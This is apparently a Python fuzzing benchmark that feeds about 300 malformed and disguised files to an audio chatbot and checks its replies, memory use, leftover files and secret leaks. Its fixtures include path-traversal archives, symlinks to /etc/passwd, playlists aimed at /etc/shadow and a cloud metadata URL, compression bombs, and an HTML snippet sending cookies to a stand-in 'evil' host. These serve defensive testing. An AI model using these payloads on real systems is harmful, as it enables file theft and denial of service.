"""Hostile input: hundreds of malformed, oversized and lying files through the bot's turn path.

Every file a user can send is built here, deterministically (seeded): random bytes behind
audio magic numbers, truncated wav/mp3/ogg/flac/m4a/webm, WAV headers that lie about their
size, rate, channels and sample format, PNG/JPEG/GIF headers claiming enormous pictures,
playlists and manifests (m3u, m3u8, pls, ffconcat, DASH, SDP) that point at local files
and URLs, zip/tar/gzip/bz2/xz archives renamed to audio, zero-byte and one-byte files,
10 MB of zeros named .wav, a file over the upload limit, polyglots (PNG+zip, WAV+PNG,
GIF+script), executables and documents with audio names, and right files with wrong
names or MIME types. Each is asked about ("transcribe this", "what sounds are in this",
"animate this face") through ``Dialogue.handle`` and ``deliver``, the path ``audiogpt ask``
takes, with the offline engine; a handful also go through the real Discord and Slack
adapters against their fakes on loopback.

Printed: how many got an answer of one or two sentences (no traceback, no silence), the
peak RSS of the bot (this process; ffmpeg children separately), files left behind (blobs
no artifact row names, temporary files), and how many times a configured secret (the fake
platform tokens, the OpenAI key, the signing secret) appears in the captured logs, the
answers or what the fakes received.

    .venv/bin/python bench/hostile.py            # every file (~300), ~10 per platform
    .venv/bin/python bench/hostile.py --quick    # 30 files, 2 per platform (the test runs this)
"""

from __future__ import annotations

import argparse
import asyncio
import bz2
import contextlib
import gzip
import io
import json
import logging
import lzma
import os
import random
import re
import resource
import struct
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from collections import Counter
from dataclasses import dataclass
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
sys.path[:] = [p for p in sys.path if Path(p or ".").resolve() != HERE]  # bench/discord.py shadows discord
sys.path.insert(0, str(HERE.parent))

PROMPTS = ("transcribe this", "what sounds are in this", "animate this face")
# Fake credentials: each must never show up in a log line, an answer or a request body the fakes saw.
DISCORD_TOKEN = "MTIzNDU2Nzg5MDEyMzQ1Njc4.HOSTILE.bench-discord-token-4f1c9e"
SLACK_TOKEN = "xoxb-test-1-secret"  # the fake Slack's team token (tests/slack_helpers.py)
SLACK_SECRET = "test-signing-secret"
OPENAI_KEY = "sk-hostile-bench-0000000000000000000000000000"
SECRETS = (DISCORD_TOKEN, SLACK_TOKEN, SLACK_SECRET, OPENAI_KEY)
TURN_TIMEOUT_S = 120.0
# Fixed-name files third-party libraries write into TMPDIR once per process, not per input:
# counted apart, so "temporary files left" is what the bot's own handling of a file leaves.
LIBRARY_TMP_FILES = {".ses": "onnxruntime writes its session id there on import"}


@dataclass(frozen=True)
class Hostile:
    name: str
    mime: str
    data: bytes
    family: str


# --- building the files ---------------------------------------------------------------------------


def _wav(samples: bytes = b"", *, rate: int = 16_000, channels: int = 1, bits: int = 16, fmt: int = 1,
         riff_size: int | None = None, data_size: int | None = None, block_align: int | None = None,
         byte_rate: int | None = None) -> bytes:
    """A WAV header whose every field can lie; ``samples`` follow the data chunk header."""
    ba = block_align if block_align is not None else channels * bits // 8
    br = byte_rate if byte_rate is not None else rate * ba
    fmt_chunk = struct.pack("<HHIIHH", fmt, channels, rate & 0xFFFFFFFF, br & 0xFFFFFFFF, ba & 0xFFFF, bits)
    ds = len(samples) if data_size is None else data_size
    body = b"WAVE" + b"fmt " + struct.pack("<I", len(fmt_chunk)) + fmt_chunk
    body += b"data" + struct.pack("<I", ds & 0xFFFFFFFF) + samples
    rs = len(body) if riff_size is None else riff_size
    return b"RIFF" + struct.pack("<I", rs & 0xFFFFFFFF) + body


def _tone(seconds: float = 1.0, rate: int = 16_000) -> bytes:
    import numpy as np

    t = np.arange(int(seconds * rate)) / rate
    return (0.3 * np.sin(2 * np.pi * 440 * t) * 32767).astype("<i2").tobytes()


def _png(width: int, height: int, *, idat: bytes | None = None, color_type: int = 2) -> bytes:
    def chunk(kind: bytes, payload: bytes) -> bytes:
        return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))

    ihdr = struct.pack(">IIBBBBB", width, height, 8, color_type, 0, 0, 0)
    raw = idat if idat is not None else zlib.compress(b"\x00" + b"\x80\x80\x80" * min(width, 4))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def _jpeg(width: int, height: int) -> bytes:
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + sof + b"\xff\xd9"


def _gif(width: int, height: int) -> bytes:
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x80\x00\x00" + b"\x00" * 6 + b";"


def _encoded(fmt: str) -> bytes:
    """A real 2 s tone in ``fmt``, made by the project's own encoder (ffmpeg)."""
    import numpy as np

    from audiogpt.core.media import encode_audio
    from audiogpt.models.base import Audio

    t = np.arange(32_000) / 16_000
    return encode_audio(Audio((0.3 * np.sin(2 * np.pi * 440 * t)).astype(np.float32), 16_000), fmt)


def _archive(kind: str, payload: bytes) -> bytes:
    buf = io.BytesIO()
    if kind == "zip":
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("song.wav", payload)
            z.writestr("../../etc/evil.sh", b"#!/bin/sh\necho pwned\n")
        return buf.getvalue()
    if kind == "tar":
        with tarfile.open(fileobj=buf, mode="w") as t:
            info = tarfile.TarInfo("song.wav")
            info.size = len(payload)
            t.addfile(info, io.BytesIO(payload))
            link = tarfile.TarInfo("passwd")
            link.type = tarfile.SYMTYPE
            link.linkname = "/etc/passwd"
            t.addfile(link)
        return buf.getvalue()
    if kind == "gzip":
        return gzip.compress(payload)
    if kind == "bz2":
        return bz2.compress(payload)
    if kind == "xz":
        return lzma.compress(payload)
    if kind == "7z":
        return b"7z\xbc\xaf\x27\x1c\x00\x04" + payload[:1000]
    raise ValueError(kind)


def build(over_limit_mb: float | None = 51.0) -> list[Hostile]:
    """Every hostile file, in a fixed order (seeded): the same bytes on every run."""
    rnd = random.Random(1337)
    out: list[Hostile] = []

    def add(name: str, mime: str, data: bytes, family: str) -> None:
        out.append(Hostile(name, mime, data, family))

    # 1. random bytes behind audio/video magic numbers
    magics = {"wav": b"RIFF\x24\x00\x00\x00WAVEfmt ", "mp3": b"ID3\x03\x00\x00\x00\x00\x00\x0f", "mp3b": b"\xff\xfb\x90\x44",
              "ogg": b"OggS\x00\x02" + b"\x00" * 8, "flac": b"fLaC\x00\x00\x00\x22", "m4a": b"\x00\x00\x00\x20ftypM4A ",
              "mp4": b"\x00\x00\x00\x18ftypisom", "webm": b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\x01", "opus": b"OggS\x00\x02OpusHead",
              "aac": b"\xff\xf1\x50\x80", "amr": b"#!AMR\n", "aiff": b"FORM\x00\x00\x10\x00AIFF", "mid": b"MThd\x00\x00\x00\x06"}
    mimes = {"wav": "audio/wav", "mp3": "audio/mpeg", "mp3b": "audio/mpeg", "ogg": "audio/ogg", "flac": "audio/flac",
             "m4a": "audio/mp4", "mp4": "video/mp4", "webm": "video/webm", "opus": "audio/ogg", "aac": "audio/aac",
             "amr": "audio/amr", "aiff": "audio/aiff", "mid": "audio/midi"}
    for ext, magic in magics.items():
        for size in (16, 700, 9_000, 120_000):
            real_ext = "mp3" if ext == "mp3b" else ext
            add(f"noise_{ext}_{size}.{real_ext}", mimes[ext], magic + rnd.randbytes(size), "magic+random")

    # 2. real files cut short (and one byte flipped through the middle)
    for fmt in ("wav", "mp3", "ogg", "flac", "m4a", "webm"):
        try:
            whole = _encoded(fmt)
        except Exception:  # an encoder this ffmpeg lacks: the format is simply not in the set
            continue
        mime = {"wav": "audio/wav", "mp3": "audio/mpeg", "ogg": "audio/ogg", "flac": "audio/flac",
                "m4a": "audio/mp4", "webm": "audio/webm"}[fmt]
        for frac in (0.0, 0.02, 0.1, 0.5, 0.9):
            cut = max(4, int(len(whole) * frac)) if frac else 12
            add(f"truncated_{fmt}_{int(frac * 100)}.{fmt}", mime, whole[:cut], "truncated")
        flipped = bytearray(whole)
        for i in range(len(flipped) // 3, len(flipped), max(1, len(flipped) // 50)):
            flipped[i] ^= 0xFF
        add(f"bitrot_{fmt}.{fmt}", mime, bytes(flipped), "truncated")

    # 3. WAV headers that lie
    tone = _tone(0.5)
    lies: dict[str, bytes] = {
        "riff_4gb": _wav(tone, riff_size=0xFFFFFFFF), "data_4gb": _wav(tone, data_size=0xFFFFFFF0),
        "data_zero": _wav(tone, data_size=0), "riff_tiny": _wav(tone, riff_size=4),
        "rate_zero": _wav(tone, rate=0), "rate_1hz": _wav(tone, rate=1), "rate_4ghz": _wav(tone, rate=0xFFFFFFFF),
        "rate_768k": _wav(tone, rate=768_000), "channels_zero": _wav(tone, channels=0),
        "channels_65535": _wav(tone, channels=65535), "channels_64": _wav(tone, channels=64),
        "bits_zero": _wav(tone, bits=0), "bits_7": _wav(tone, bits=7), "bits_64": _wav(tone, bits=64),
        "fmt_mp3_in_wav": _wav(tone, fmt=0x55), "fmt_extensible_junk": _wav(tone, fmt=0xFFFE),
        "fmt_float_odd": _wav(tone, fmt=3, bits=16), "fmt_unknown": _wav(tone, fmt=0x1234),
        "block_align_zero": _wav(tone, block_align=0), "byte_rate_lie": _wav(tone, byte_rate=1),
        "no_data_chunk": _wav(b"")[:-8], "header_only": _wav(b""),
        "odd_length": _wav(tone + b"\x01"), "rf64": b"RF64" + _wav(tone)[4:],
        "ten_hours_claimed": _wav(tone[:3200], data_size=10 * 3600 * 32_000),
        "duplicate_fmt": _wav(tone)[:36] + b"fmt " + struct.pack("<I", 16) + b"\x00" * 16 + _wav(tone)[36:],
    }
    for label, data in lies.items():
        add(f"lying_{label}.wav", "audio/wav", data, "lying wav")

    # 4. pictures that claim to be enormous (and some that are broken)
    for w, h in ((100_000, 100_000), (1, 2_000_000_000), (65_535, 65_535), (0, 0), (40_000, 1)):
        add(f"huge_{w}x{h}.png", "image/png", _png(w, h), "image header")
        add(f"huge_{w}x{h}.jpg", "image/jpeg", _jpeg(min(w, 65_535), min(h, 65_535)), "image header")
    add("huge.gif", "image/gif", _gif(65_535, 65_535), "image header")
    add("bomb.png", "image/png", _png(20_000, 20_000, idat=zlib.compress(b"\x00" * 8_000_000, 9)), "image header")
    add("truncated.png", "image/png", _png(64, 64)[:40], "image header")
    add("bad_crc.png", "image/png", _png(64, 64)[:29] + b"\x00\x00\x00\x00" + _png(64, 64)[33:], "image header")
    add("webp_lie.webp", "image/webp", b"RIFF\xff\xff\xff\xffWEBPVP8 " + rnd.randbytes(500), "image header")
    add("svg_huge.png", "image/png", b'<svg xmlns="http://www.w3.org/2000/svg" width="99999999" height="99999999">'
        b'<image href="file:///etc/passwd"/></svg>', "image header")
    add("face.bmp", "image/bmp", b"BM" + struct.pack("<IHHI", 0xFFFFFFFF, 0, 0, 54) + rnd.randbytes(200), "image header")

    # 5. playlists and manifests (pointing at local files and the network), under true and lying names
    pointers = {
        "m3u": b"#EXTM3U\n#EXTINF:10,secret\nfile:///etc/passwd\n/etc/shadow\nhttp://169.254.169.254/latest/meta-data\n",
        "m3u8": b"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:10\n#EXTINF:10.0,\nfile:///etc/passwd\n"
                b"#EXTINF:10.0,\nhttp://127.0.0.1:1/x.ts\n#EXT-X-ENDLIST\n",
        "pls": b"[playlist]\nFile1=file:///etc/passwd\nTitle1=x\nLength1=-1\nNumberOfEntries=1\nVersion=2\n",
        "ffconcat": b"ffconcat version 1.0\nfile '/etc/passwd'\nfile 'subfile,,start,0,end,0,,:/etc/hosts'\n",
        "mpd": b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static"><Period><AdaptationSet>'
               b'<Representation id="1" bandwidth="1"><BaseURL>file:///etc/passwd</BaseURL></Representation>'
               b'</AdaptationSet></Period></MPD>',
        "sdp": b"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=audio 5004 RTP/AVP 0\n",
        "xspf": b'<?xml version="1.0"?><playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track>'
                b"<location>file:///etc/passwd</location></track></trackList></playlist>",
        "asx": b'<asx version="3.0"><entry><ref href="file:///etc/passwd"/></entry></asx>',
        "cue": b'FILE "/etc/passwd" WAVE\n  TRACK 01 AUDIO\n    INDEX 01 00:00:00\n',
    }
    for kind, body in pointers.items():
        add(f"list.{kind}", "audio/x-mpegurl" if kind.startswith("m3u") else "application/octet-stream", body,
            "playlist")
        add(f"playlist_as_{kind}.mp3", "audio/mpeg", body, "playlist")
        add(f"playlist_as_{kind}.wav", "audio/wav", body, "playlist")
    add("hls_bom.m3u8", "application/vnd.apple.mpegurl", b"\xef\xbb\xbf" + pointers["m3u8"], "playlist")
    add("concat_crlf.txt", "text/plain", pointers["ffconcat"].replace(b"\n", b"\r\n"), "playlist")

    # 6. archives renamed to audio (with a real WAV inside, a traversal name, a symlink)
    inner = _wav(_tone(0.3))
    for kind in ("zip", "tar", "gzip", "bz2", "xz", "7z"):
        data = _archive(kind, inner)
        for ext, mime in (("mp3", "audio/mpeg"), ("wav", "audio/wav"), ("ogg", "audio/ogg")):
            add(f"archive_{kind}.{ext}", mime, data, "archive")
    add("zipbomb.mp3", "audio/mpeg", _archive("zip", b"\x00" * 20_000_000), "archive")
    add("gzip_of_zeros.wav", "audio/wav", gzip.compress(b"\x00" * 20_000_000, 9), "archive")

    # 7. empty and almost empty
    for ext, mime in (("wav", "audio/wav"), ("mp3", "audio/mpeg"), ("ogg", "audio/ogg"), ("png", "image/png"),
                      ("m4a", "audio/mp4"), ("flac", "audio/flac")):
        add(f"empty.{ext}", mime, b"", "empty")
        add(f"one_byte.{ext}", mime, b"\x00", "empty")
        add(f"magic_only.{ext}", mime, {"wav": b"RIFF", "mp3": b"ID3", "ogg": b"OggS", "png": b"\x89PNG",
                                          "m4a": b"\x00\x00\x00\x08ftyp", "flac": b"fLaC"}[ext], "empty")

    # 8. big: 10 MB of zeros / random named as audio, and one over the upload limit
    add("zeros_10mb.wav", "audio/wav", b"\x00" * 10_000_000, "big")
    add("random_10mb.mp3", "audio/mpeg", rnd.randbytes(10_000_000), "big")
    add("zeros_wav_header_10mb.wav", "audio/wav", _wav(b"\x00" * 10_000_000), "big")
    if over_limit_mb:
        add("over_the_limit.wav", "audio/wav", _wav(b"\x00" * int(over_limit_mb * 1024 * 1024)), "big")

    # 9. polyglots and documents/executables with audio names
    png = _png(8, 8)
    add("png_plus_zip.png", "image/png", png + _archive("zip", inner), "polyglot")
    add("wav_plus_png.wav", "audio/wav", _wav(_tone(0.2)) + png, "polyglot")
    add("png_then_wav.wav", "audio/wav", png + _wav(_tone(0.2)), "polyglot")
    add("gif_js.gif", "image/gif", b"GIF89a/*\x00\x00*/=1;alert(document.cookie)//" + b"\x00" * 50, "polyglot")
    add("jpeg_id3.mp3", "audio/mpeg", _jpeg(10, 10) + b"ID3\x03\x00\x00\x00\x00\x00\x0f" + rnd.randbytes(300),
        "polyglot")
    add("html.ogg", "audio/ogg", b"<html><script>fetch('http://evil/'+document.cookie)</script></html>", "polyglot")
    add("pdf.flac", "audio/flac", b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF", "polyglot")
    with open(sys.executable, "rb") as f:
        add("python.wav", "audio/wav", f.read(64_000), "polyglot")
    add("hello.mp3", "audio/mpeg", b"hello, I am definitely an mp3", "polyglot")
    add("json.wav", "audio/wav", json.dumps({"audio": "a1", "path": "../../etc/passwd"}).encode(), "polyglot")
    add("nul_name\u202egnp.wav", "audio/wav", rnd.randbytes(2000), "polyglot")
    add("../../../etc/passwd.wav", "audio/wav", _wav(_tone(0.2)), "polyglot")
    add("CON.wav", "audio/wav", rnd.randbytes(1500), "polyglot")
    add("a" * 300 + ".wav", "audio/wav", rnd.randbytes(1500), "polyglot")
    add("utf16.wav", "audio/wav", "RIFF WAVE fmt".encode("utf-16"), "polyglot")
    add("ogg_page_loop.ogg", "audio/ogg", (b"OggS\x00\x00" + b"\xff" * 20 + b"\x01\x00") * 400, "polyglot")

    # 10. right bytes, wrong name or MIME type
    good = _wav(_tone(1.0))
    add("really_a_wav.png", "image/png", good, "wrong label")
    add("really_a_png.wav", "audio/wav", _png(32, 32), "wrong label")
    add("really_a_wav.txt", "text/plain", good, "wrong label")
    add("noext", "application/octet-stream", good, "wrong label")
    add("really_a_jpeg.mp3", "audio/mpeg", _jpeg(16, 16), "wrong label")
    add("mp3_as_wav.wav", "audio/wav", _encoded("mp3"), "wrong label")

    # fill to at least 300 with more seeded random-with-magic files of assorted sizes
    keys = list(magics)
    i = 0
    while len(out) < 300:
        ext = keys[i % len(keys)]
        real_ext = "mp3" if ext == "mp3b" else ext
        size = rnd.choice((1, 33, 511, 4096, 65_537, 300_000))
        add(f"fuzz_{i}_{ext}.{real_ext}", mimes[ext], magics[ext] + rnd.randbytes(size), "magic+random")
        i += 1
    return out


# --- checking the answers -------------------------------------------------------------------------

_SENTENCE_END = re.compile(r"(?<=[.!?…])[\"')\]]*\s+(?=[A-Z0-9'\"(])")
_NO_FILE = re.compile(r"don't see one|do not see one|no file|attach (it|a recording)", re.I)
_BAD = ("Traceback", 'File "', "Exception", "Error:", "errno", "stack")


def sentences(text: str) -> int:
    """Sentences in an answer's prose (a trailing 'Files:' listing of artifacts is not prose)."""
    prose = text.strip().split("\nFiles:")[0].strip()
    return len([s for s in _SENTENCE_END.split(prose) if s.strip()]) if prose else 0


def tool_ran(text: str) -> bool:
    """The answer carries a tool's result (the file decoded after all): 'Done!' and/or a Files: list."""
    return text.lstrip().startswith("Done!") or "\nFiles:" in text


def answer_ok(text: str, ran: bool | None = None) -> tuple[bool, str]:
    """A refusal must be one or two sentences; a tool's result may be longer, but never a traceback."""
    if not text or not text.strip():
        return False, "no answer"
    if any(b in text for b in _BAD):
        return False, "looks like a traceback"
    if ran if ran is not None else tool_ran(text):
        return True, ""
    n = sentences(text)
    if n > 2:
        return False, f"{n} sentences"
    return True, ""


# --- the runs -------------------------------------------------------------------------------------


@dataclass
class Outcome:
    path: str
    file: Hostile
    prompt: str
    text: str
    ok: bool
    why: str
    seconds: float
    ran: bool = False  # a tool ran on it (the file decoded): a result, not a refusal


def _settings(data: Path, **kw: Any) -> Any:
    from audiogpt.config import Settings

    base: dict[str, Any] = {"data_dir": data, "llm": "offline", "database_url": None, "openai_api_key": OPENAI_KEY,
                            "rate_user_per_minute": 0, "rate_workspace_per_minute": 0, "log_level": "DEBUG"}
    base.update(kw)
    return Settings(_env_file=None, **base)  # type: ignore[call-arg]


class _Capture(logging.Handler):
    """Every log record, formatted by the bot's own redacting formatter, kept in memory."""

    def __init__(self, fmt: logging.Formatter) -> None:
        super().__init__(logging.DEBUG)
        self.setFormatter(fmt)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        with contextlib.suppress(Exception):
            self.lines.append(self.format(record))


def _install_logging(settings: Any) -> _Capture:
    """The handlers ``audiogpt`` itself installs (file + stderr, redacting), plus an in-memory copy."""
    from audiogpt.bots.cli import log_handlers
    from audiogpt.logsafe import RedactingFormatter, secret_values

    root = logging.getLogger()
    root.setLevel(logging.DEBUG)
    for h in log_handlers(settings, quiet=True):
        if isinstance(h, logging.StreamHandler) and not isinstance(h, logging.FileHandler):
            h.setLevel(logging.CRITICAL)  # keep the bench's own output readable; the file has everything
        root.addHandler(h)
    inner = logging.Formatter("%(asctime)s %(levelname)s %(name)s: %(message)s")
    cap = _Capture(RedactingFormatter(inner, secret_values(settings)))
    root.addHandler(cap)
    return cap


async def run_core(files: list[Hostile], data: Path) -> list[Outcome]:
    """Each file through Dialogue.handle + deliver, as ``audiogpt ask --attach`` sends it."""
    from audiogpt.core.app import App
    from audiogpt.core.events import Attachment, Incoming

    settings = _settings(data, discord_token=DISCORD_TOKEN, slack_bot_token=SLACK_TOKEN,
                         slack_signing_secret=SLACK_SECRET)
    app = await App.open(settings)
    out: list[Outcome] = []
    try:
        await app.recover()
        for i, f in enumerate(files):
            prompt = PROMPTS[i % len(PROMPTS)]

            async def fetch(f: Hostile = f) -> bytes:
                return f.data

            att = Attachment(name=f.name, mime=f.mime, size=len(f.data), fetch=fetch)
            t0 = time.perf_counter()
            try:
                res = await asyncio.wait_for(app.dialogue.handle(Incoming(
                    platform="cli", conversation=f"cli:hostile-{i}", author="cli", text=prompt,
                    attachments=(att,))), TURN_TIMEOUT_S)
                await app.dialogue.deliver(res, None)
                text = res.text
                ran = any(tc.get("ok") for tc in res.to_dict().get("tool_calls", []))
            except Exception as exc:  # an exception out of the turn is exactly what must not happen
                text, ran = f"Traceback: {type(exc).__name__}: {exc}", False
            ok, why = answer_ok(text, ran)
            out.append(Outcome("ask", f, prompt, text, ok, why, time.perf_counter() - t0, ran))
    finally:
        await app.close()
    return out


async def run_discord(files: list[Hostile], data: Path, sink: list[str]) -> list[Outcome]:
    """Each file as an attachment of a mention, through discord.py against the fake Discord."""
    from audiogpt.bots.discord.adapter import DiscordAdapter
    from audiogpt.core.app import App
    from tests.fake_discord import BOT_ID, FakeDiscord, user

    fake = await FakeDiscord().start()
    settings = _settings(data, discord_token=DISCORD_TOKEN, discord_api_base_url=fake.api_base)
    app = await App.open(settings)
    adapter = DiscordAdapter(app)
    task = asyncio.create_task(adapter.start())
    out: list[Outcome] = []
    try:
        await asyncio.wait_for(adapter.ready.wait(), 60)
        bot = user(BOT_ID, "audiogpt", bot=True)
        for i, f in enumerate(files):
            prompt = PROMPTS[i % len(PROMPTS)]
            before = len(fake.sent())
            t0 = time.perf_counter()
            att = fake.add_file(f.data, f.name, f.mime)
            await fake.message_create(f"<@{BOT_ID}> {prompt}", mentions=[bot], attachments=[att],
                                      author=user(str(930000000000200000 + i), f"hostile{i}"))
            try:
                await fake.wait_for(lambda before=before: len(fake.sent()) > before, timeout=TURN_TIMEOUT_S)
                await asyncio.sleep(0.2)  # a reply posted in parts: let the rest arrive
                text = "\n".join(r.content or "" for r in fake.sent()[before:])
            except (TimeoutError, AssertionError):  # no answer in time
                text = ""
            ok, why = answer_ok(text)
            out.append(Outcome("discord", f, prompt, text, ok, why, time.perf_counter() - t0, tool_ran(text)))
        sink.extend(json.dumps(r.json, default=str) for r in fake.requests)
    finally:
        await adapter.stop()
        task.cancel()
        with contextlib.suppress(BaseException):
            await task
        await app.close()
        await fake.close()
    return out


async def run_slack(files: list[Hostile], data: Path, sink: list[str]) -> list[Outcome]:
    """Each file shared with a mention, as signed Events API requests to the real slack-bolt adapter."""
    from audiogpt.core.app import App
    from tests.fake_slack import FakeSlack
    from tests.slack_helpers import mention, slack_rig

    fake = await FakeSlack().start()
    fake.add_team(SLACK_TOKEN)
    settings = _settings(data, slack_bot_token=SLACK_TOKEN, slack_signing_secret=SLACK_SECRET,
                         slack_api_url=fake.api_url, slack_mode="http", slack_port=0, slack_host="127.0.0.1")
    app = await App.open(settings)
    out: list[Outcome] = []
    try:
        async with slack_rig(app, settings, fake) as rig:
            for i, f in enumerate(files):
                prompt = PROMPTS[i % len(PROMPTS)]
                before = len(fake.answers())
                t0 = time.perf_counter()
                sf = fake.add_file(f.name, f.data, f.mime)
                await rig.event(mention(prompt, f"1700.{2000 + i}", user=f"UH{i}", files=[sf]))
                try:
                    await rig.idle(TURN_TIMEOUT_S)
                    text = "\n".join(str(c.args.get("text", "")) for c in fake.answers()[before:])
                except (TimeoutError, AssertionError):  # no answer in time
                    text = ""
                ok, why = answer_ok(text)
                out.append(Outcome("slack", f, prompt, text, ok, why, time.perf_counter() - t0, tool_ran(text)))
        sink.extend(json.dumps(c.args, default=str) for c in fake.calls)
    finally:
        await app.close()
        await fake.close()
    return out


async def leftovers(data: Path) -> tuple[int, list[str]]:
    """Blobs no artifact row names (a sweep's dry run with no grace period) in ``data``'s store."""
    from audiogpt.storage.blobs import LocalBlobStore
    from audiogpt.storage.blobstore import sweep_orphan_blobs
    from audiogpt.storage.db import Database

    store_root = data / "artifacts"
    if not store_root.is_dir():
        return 0, []
    db = Database(f"sqlite+aiosqlite:///{data / 'audiogpt.db'}")
    await db.connect(retries=1)
    try:
        report = await sweep_orphan_blobs(LocalBlobStore(store_root), db, grace_seconds=-1.0, dry_run=True)
    finally:
        await db.close()
    return len(report.deleted), report.deleted


def _files_under(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


async def amain(quick: bool, dump: Path | None = None, keep: bool = False) -> dict[str, Any]:
    work = Path(tempfile.mkdtemp(prefix="audiogpt-hostile-"))
    try:
        return await _run(work, quick, dump)
    finally:
        if keep:
            print(f"(data dirs, logs and TMPDIR kept in {work})")
        else:
            import shutil

            shutil.rmtree(work, ignore_errors=True)


async def _run(work: Path, quick: bool, dump: Path | None) -> dict[str, Any]:
    tmp = work / "tmp"
    tmp.mkdir()
    os.environ["TMPDIR"] = str(tmp)  # every temporary file the bot makes lands here, to be counted
    tempfile.tempdir = str(tmp)
    files = build(over_limit_mb=None if quick else 51.0)
    if quick:
        step = max(1, len(files) // 30)
        core_files = files[::step][:30]
        platform_files = [core_files[3], core_files[17]]
    else:
        core_files = files
        platform_files = files[:: max(1, len(files) // 10)][:10]
    cap = _install_logging(_settings(work / "core", discord_token=DISCORD_TOKEN, slack_bot_token=SLACK_TOKEN,
                                     slack_signing_secret=SLACK_SECRET))
    # a canary: the capture must redact what the bot's formatter redacts, or a 0 below would prove nothing
    logging.getLogger("audiogpt.bench.hostile").warning("canary token=%s", DISCORD_TOKEN)
    assert any("canary" in line for line in cap.lines) and not any(DISCORD_TOKEN in line for line in cap.lines)
    seen_by_fakes: list[str] = []
    t0 = time.perf_counter()
    outcomes = await run_core(core_files, work / "core")
    outcomes += await run_discord(platform_files, work / "discord", seen_by_fakes)
    outcomes += await run_slack(platform_files, work / "slack", seen_by_fakes)
    wall = time.perf_counter() - t0

    orphans = 0
    for sub in ("core", "discord", "slack"):
        orphans += (await leftovers(work / sub))[0]
    tmp_all = _files_under(tmp)
    tmp_left = [p for p in tmp_all if p.name not in LIBRARY_TMP_FILES]
    tmp_library = sorted({p.name for p in tmp_all if p.name in LIBRARY_TMP_FILES})
    logs = "\n".join(cap.lines)
    for sub in ("core", "discord", "slack"):
        log_file = work / sub / "audiogpt.log"
        if log_file.is_file():
            logs += "\n" + log_file.read_text(errors="replace")
    answers = "\n".join(o.text for o in outcomes)
    leaks = {s: logs.count(s) + answers.count(s) for s in SECRETS}
    # the fakes see the tokens where they belong (Authorization headers); request bodies must not carry them
    body_leaks = sum("\n".join(seen_by_fakes).count(s) for s in SECRETS)
    peak_rss_mb = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024

    from bench.common import table

    rows = []
    for path in ("ask", "discord", "slack"):
        mine = [o for o in outcomes if o.path == path]
        if not mine:
            continue
        good = sum(o.ok for o in mine)
        refused = [o for o in mine if not o.ran]
        rows.append([path, len(mine), f"{sum(o.ok for o in refused)}/{len(refused)}",
                     f"{sum(o.ok for o in mine if o.ran)}/{len(mine) - len(refused)}", len(mine) - good,
                     max(o.seconds for o in mine), sum(o.seconds for o in mine) / len(mine)])
    fam = Counter(o.file.family for o in outcomes if o.path == "ask")
    bad_fam = Counter(o.file.family for o in outcomes if not o.ok)
    summary = {
        "files": len(core_files), "turns": len(outcomes), "answered_ok": sum(o.ok for o in outcomes),
        "failures": [{"path": o.path, "file": o.file.name, "prompt": o.prompt, "why": o.why, "text": o.text[:300]}
                     for o in outcomes if not o.ok],
        "refused": sum(not o.ran for o in outcomes), "tool_ran": sum(o.ran for o in outcomes),
        # answered, but as if nothing had been attached: the refusal of the file itself was not said
        "says_no_file_was_sent": [o.file.name for o in outcomes if _NO_FILE.search(o.text)],
        "peak_rss_mb": round(peak_rss_mb, 1), "library_tmp_files": tmp_library,
        "blobs_without_row": orphans, "tmp_files_left": len(tmp_left), "secrets_in_logs_or_answers": sum(leaks.values()),
        "secrets_in_request_bodies": body_leaks, "log_lines": len(cap.lines), "seconds": round(wall, 1),
    }
    print(f"Hostile input: {len(core_files)} files through `audiogpt ask`'s turn path, {len(platform_files)} "
          f"each through Discord and Slack (fakes on loopback); offline engine, SQLite")
    print(table(["path", "turns", "refused in 1-2 sentences", "decoded, tool answered", "bad", "slowest s",
                 "mean s"], rows))
    print(table(["family", "files (ask)", "bad answers (all paths)"],
                [[k, v, bad_fam.get(k, 0)] for k, v in sorted(fam.items())]))
    print(table(["check", "result", "goal"], [
        ["answered (refusal in 1-2 sentences, or a tool's result)", f"{summary['answered_ok']}/{summary['turns']}",
         "all"],
        ["peak RSS of the bot (MB, this process, models loaded)", summary["peak_rss_mb"], "-"],
        ["answers that ignore the attached file ('I don't see one')", len(summary["says_no_file_was_sent"]), "0 (not gated)"],
        ["blobs left without an artifact row", orphans, 0],
        ["temporary files left", len(tmp_left), 0],
        ["secret strings in logs/answers", summary["secrets_in_logs_or_answers"], 0],
        ["secret strings in request bodies", body_leaks, 0],
        ["wall time (s)", summary["seconds"], "-"],
    ]))
    for o in outcomes:
        if not o.ok:
            print(f"  BAD [{o.path}] {o.file.name!r} ({o.prompt}): {o.why}: {o.text[:200]!r}")
    for p in tmp_left[:10]:
        print(f"  LEFT {p}")
    for name in tmp_library:
        print(f"  (not counted: {name} in TMPDIR, {LIBRARY_TMP_FILES[name]})")
    if dump is not None:
        dump.write_text(json.dumps([{"path": o.path, "file": o.file.name, "family": o.file.family, "bytes": len(o.file.data),
                                     "prompt": o.prompt, "ran": o.ran, "ok": o.ok, "text": o.text}
                                    for o in outcomes], indent=1, ensure_ascii=False))
    print(json.dumps(summary, default=str))
    logging.getLogger().handlers.clear()
    return summary


